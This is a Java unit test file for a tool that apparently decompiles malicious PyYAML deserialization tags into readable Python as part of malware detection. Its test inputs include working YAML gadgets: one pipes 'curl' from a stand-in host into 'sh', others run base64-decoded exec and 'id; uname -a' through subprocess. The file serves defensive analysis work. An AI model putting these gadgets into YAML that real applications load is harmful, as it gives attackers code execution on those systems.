package dev.chainhunt.deobf.python;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;

class YamlGadgetsTest {

    @Test
    void flowArgumentsAndNestedTags() {
        String py = YamlGadgets.decompile("x: !!python/object/apply:os.system [\"curl -s http://203.0.113.9/a | sh\"]\n"
                + "y: !!python/object/apply:builtins.exec [!!python/object/apply:base64.b64decode ['cHJpbnQoMSk=']]\n");
        assertThat(py).isEqualTo("import os\nimport base64\n"
                + "_v1 = os.system(*['curl -s http://203.0.113.9/a | sh'])\n"
                + "_v2 = exec(*[base64.b64decode(*['cHJpbnQoMSk='])])\n");
    }

    @Test
    void blockSequenceOfAList() {
        String py = YamlGadgets.decompile("warmup: !!python/object/apply:subprocess.Popen\n- - sh\n  - -c\n  - 'id; uname -a'\nnext: 1\n");
        assertThat(py).isEqualTo("import subprocess\n_v1 = subprocess.Popen(['sh', '-c', 'id; uname -a'])\n");
    }

    @Test
    void argsKeyAndLongTagForm() {
        String py = YamlGadgets.decompile("!<tag:yaml.org,2002:python/object/new:posix.system>\nargs: [\"echo hi\"]\n");
        assertThat(py).isEqualTo("import os\n_v1 = os.system(*['echo hi'])\n");
    }

    @Test
    void tagsThatOnlyNameOrRebuildObjectsCallNothing() {
        assertThat(YamlGadgets.decompile("a: !!python/object:pkg.Model {size: 3}\nb: !!python/name:pkg.relu\n")).isNull();
        assertThat(YamlGadgets.mayHold("docs/security.md", "!!python/object/apply:os.system".getBytes(StandardCharsets.UTF_8)))
                .isFalse();
        assertThat(YamlGadgets.mayHold("pkg/conf.yaml", "!!python/object/apply:os.system".getBytes(StandardCharsets.UTF_8)))
                .isTrue();
    }

    @Test
    void deepNestingAndUnterminatedInputEnd() {
        String deep = "!!python/object/apply:os.system " + "[".repeat(200_000);
        assertThat(YamlGadgets.decompile(deep)).startsWith("import os\n_v1 = os.system(");
        String nestedTags = "!!python/object/apply:os.system [".repeat(50_000);
        assertThat(YamlGadgets.decompile(nestedTags)).contains("_v1 = os.system(");
        String manyArgs = "!!python/object/apply:os.system\n" + "args:\n".repeat(100_000);
        assertThat(YamlGadgets.decompile(manyArgs)).contains("_v1 = os.system(");
        assertThat(YamlGadgets.decompile("!!python/object/apply:os.system [\"unterminated")).contains("os.system(");
        assertThat(YamlGadgets.decompile("!!python/object/apply:os.system [a: b, : c, ::]")).contains("os.system(");
    }

    @Test
    void arbitraryYamlPunctuationAlwaysEnds() {
        java.util.Random random = new java.util.Random(11);
        String alphabet = "[]{},:-#'\"\\ \n!ab1";
        for (int n = 0; n < 5_000; n++) {
            StringBuilder sb = new StringBuilder("!!python/object/apply:os.system ");
            for (int i = random.nextInt(80); i > 0; i--) {
                sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(YamlGadgets.decompile(sb.toString())).contains("_v1 = os.system(");
        }
    }
}
